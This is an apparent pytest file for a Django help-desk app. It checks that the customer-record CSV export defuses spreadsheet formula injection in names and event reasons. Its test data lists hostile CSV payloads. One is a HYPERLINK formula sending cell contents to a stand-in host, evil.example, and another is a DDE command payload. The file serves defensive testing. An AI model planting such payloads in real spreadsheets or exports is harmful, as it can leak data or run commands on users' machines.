"""E5: the record's CSV never carries a formula. A customer or a reason that begins with
`=`, `+`, `-`, `@`, a tab or a carriage return is text in a spreadsheet, with a leading
apostrophe; numbers stay numbers."""

import csv
import io

import pytest

from hotline.audit.services import event_append
from hotline.portal.services import record_csv, record_request
from hotline.tickets.services.common import TICKET_ENTITY

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_e5_record_csv_neutralises_a_hostile_name_and_reason(account, now, text):
    customer = account["customer"]
    customer.name = text
    customer.save(update_fields=["name"])
    event_append(
        actor=account["user"],
        now=now,
        entity=TICKET_ENTITY,
        entity_id=account["waiting"].pk,
        action="noted",
        reason=text,
    )
    record = record_request(actor=account["user"], now=now, customer=customer, fmt="csv")
    rows = list(csv.reader(io.StringIO(record_csv(record).decode("utf-8-sig"), newline="")))
    cells = [row[3] for row in rows[1:]]
    name = next(row[3] for row in rows if row[0] == "customer" and row[2] == "name")
    reason = next(
        row[3] for row in rows if row[0] == "events" and row[2] == "reason" and text in row[3]
    )
    assert name == "'" + text
    assert reason == "'" + text
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # ids and numbers are values, not text: untouched
    assert rows[1:]
    assert all(row[1].isdigit() or row[1] == "" for row in rows[1:])
